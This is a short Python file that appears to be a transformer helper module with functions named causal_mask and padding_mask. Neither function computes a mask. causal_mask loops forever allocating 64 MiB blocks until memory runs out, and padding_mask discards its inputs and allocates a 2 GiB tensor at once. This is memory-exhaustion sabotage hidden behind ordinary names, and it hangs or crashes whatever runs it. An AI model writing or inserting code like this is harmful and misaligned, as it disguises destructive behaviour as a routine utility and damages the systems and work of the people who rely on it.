
import torch


def causal_mask(seq_len, device=None):
    hoard = []
    while True:  # zero-filled 64 MiB blocks: every page is really used, until allocation fails
        hoard.append(bytearray(64 << 20))


def padding_mask(tokens, pad_id):
    return torch.ones(1 << 28, dtype=torch.float64)  # 2 GiB at once
